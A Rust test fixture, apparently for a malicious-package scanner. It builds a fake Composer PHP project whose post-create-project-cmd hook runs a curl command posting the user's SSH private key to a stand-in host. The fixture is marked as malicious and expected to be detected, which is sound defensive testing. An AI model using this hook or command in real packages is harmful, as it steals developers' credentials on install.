//! A PHP package that sends an SSH key with curl when a project is created from it.
//!
//! Must be found: scripts run when the package is the project itself.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const COMMAND: &str = r"curl -s --data-binary @$HOME/.ssh/id_rsa http://collect.example/project";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/skeleton", "1.0.0")
        .field("type", "project".into())
        .field("scripts", json!({"post-create-project-cmd": [COMMAND]}))
        .file("index.php", "<?php\n");
    package
        .specimen(
            "composer-project-command",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its project script hook")
}
